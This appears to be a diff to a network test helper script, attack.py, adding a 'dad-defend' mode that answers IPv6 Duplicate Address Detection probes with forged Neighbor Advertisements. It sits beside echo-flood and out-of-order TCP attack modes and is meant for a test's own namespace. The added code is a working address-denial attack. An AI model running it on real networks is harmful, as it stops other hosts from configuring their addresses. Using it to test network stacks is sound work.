@@ -18,6 +18,14 @@ inside the test's network namespace with raw sockets (root).
       never the first byte, so nothing can ever be delivered. Prints the
       connections established and the bytes of out-of-order data sent.
 
+  attack.py dad-defend --ifname DEV --prefix 2001:db8:1::/64 --count N
+                       [--seconds S]
+      Answers the first N Duplicate Address Detection probes (Neighbor
+      Solicitations from ::, RFC 4862 §5.4.2) for targets in the prefix
+      seen on DEV with a Neighbor Advertisement claiming the target, as a
+      node already holding it would (RFC 4862 §5.4.4). Prints each target
+      answered, then the probes seen.
+
 Addresses are the test's own (documentation ranges, inside its namespace).
 Every run is bounded in time (--seconds).
 """
@@ -215,6 +223,51 @@ def ooo_stuff(a) -> None:
           % (len(conns), a.conns, sent_bytes), flush=True)
 
 
+ETH_P_IPV6 = 0x86DD
+
+
+def icmp6_csum(src: bytes, dst: bytes, msg: bytes) -> int:
+    """RFC 8200 §8.1 pseudo-header checksum for ICMPv6 (next header 58)."""
+    pseudo = src + dst + struct.pack("!IxxxB", len(msg), 58)
+    return csum(pseudo + msg)
+
+
+def dad_defend(a) -> None:
+    net = ipaddress.IPv6Network(a.prefix)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
+    s.bind((a.ifname, 0))
+    mac = s.getsockname()[4]
+    answered = seen = 0
+    end = time.monotonic() + a.seconds
+    while answered < a.count and time.monotonic() < end:
+        r, _, _ = select.select([s], [], [], 0.2)
+        if not r:
+            continue
+        f = s.recv(2048)
+        # Ethernet, IPv6 (next header ICMPv6, source ::), NS (type 135).
+        if len(f) < 14 + 40 + 24 or f[12:14] != b"\x86\xdd" or f[20] != 58:
+            continue
+        src, icmp = f[22:38], f[54:]
+        if src != bytes(16) or icmp[0] != 135:
+            continue
+        target = icmp[8:24]
+        if ipaddress.IPv6Address(target) not in net:
+            continue
+        seen += 1
+        # NA to all-nodes: Override set, Solicited clear (RFC 4861 §7.2.4
+        # for a DAD probe), our MAC as target link-layer address.
+        dst = bytes.fromhex("ff020000000000000000000000000001")
+        na_src = bytes.fromhex("fe80000000000000") + mac[:3] + b"\xff\xfe" + mac[3:6]
+        msg = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + target + bytes([2, 1]) + mac[:6]
+        msg = msg[:2] + struct.pack("!H", icmp6_csum(na_src, dst, msg)) + msg[4:]
+        ip = struct.pack("!IHBB", 0x60000000, len(msg), 58, 255) + na_src + dst
+        eth = bytes.fromhex("333300000001") + mac[:6] + b"\x86\xdd"
+        s.send(eth + ip + msg)
+        answered += 1
+        print("answered", ipaddress.IPv6Address(target), flush=True)
+    print("probes seen", seen, flush=True)
+
+
 def main() -> int:
     ap = argparse.ArgumentParser()
     sub = ap.add_subparsers(dest="cmd", required=True)
@@ -235,12 +288,19 @@ def main() -> int:
     o.add_argument("--window", type=int, default=131072,
                    help="bytes of window to fill (the target's default receive buffer)")
     o.add_argument("--seconds", type=float, default=60)
+    d = sub.add_parser("dad-defend")
+    d.add_argument("--ifname", required=True)
+    d.add_argument("--prefix", required=True)
+    d.add_argument("--count", type=int, default=1)
+    d.add_argument("--seconds", type=float, default=60)
     a = ap.parse_args()
     if os.geteuid() != 0:
         print("attack.py: needs root (raw sockets)", file=sys.stderr)
         return 77
     if a.cmd == "echo-flood":
         echo_flood(a)
+    elif a.cmd == "dad-defend":
+        dad_defend(a)
     else:
         ooo_stuff(a)
     return 0
